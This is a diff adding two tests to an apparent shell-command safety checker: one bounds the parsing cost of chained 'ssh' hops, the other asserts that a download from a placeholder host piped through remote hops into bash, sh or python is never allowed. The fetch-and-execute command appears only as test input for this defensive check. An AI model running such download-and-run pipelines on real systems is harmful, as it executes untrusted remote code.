@@ -26,6 +26,33 @@ test('linear: tokens without a colon before a network word or interpreter text',
     );
 });
 
+test('remote hops under the 1 KiB remote-line bound cost no more than the text 8x longer', () => {
+  // Round 52: each `ssh HOST CMD` hop parsed the rest of the line again, and every reader asked again of
+  // every script it read: `ssh gw ` to 1 KiB cost 18 M units (1.5 M characters parsed), 23x the same to
+  // 8 KiB, where the 1 KiB bound on a remote line stops the hops. Hops are now bounded (shell.ts
+  // MAX_REMOTE_HOPS): 2.2 M, under twice the 8 KiB text's.
+  for (const unit of ['ssh gw ', 'ssh -p 22 gw ']) {
+    verdict(fill(unit, 64));
+    const long = workOf(() => verdict(fill(unit, 8192)));
+    assert.ok(workOf(() => verdict(fill(unit, 1024)), 4 * long) < 3 * long, unit);
+  }
+});
+
+test('a download piped into more remote hops than are followed is still refused', () => {
+  // Past MAX_REMOTE_HOPS the remote command is taken to read its input: fail closed, never admitted.
+  fc.assert(
+    fc.property(
+      fc.integer({ min: 1, max: 12 }),
+      fc.constantFrom('bash', 'bash -s', 'python3 -', 'sh', 'ls'),
+      (hops, tail) => {
+        const v = verdict(`curl -s https://x.io/i | ${'ssh gw '.repeat(hops)}${tail}`);
+        assert.notEqual(v.kind, 'ALLOW', `${hops} ${tail}`);
+      },
+    ),
+    { numRuns: Math.min(RUNS, 60) },
+  );
+});
+
 test('an unknown program whose tails are the same writer costs no more a character than echo', () => {
   const n = 16384;
   const units = ['cp a ', 'mv a ', 'rm a ', 'touch a ', 'cp a b ', 'tee a '];
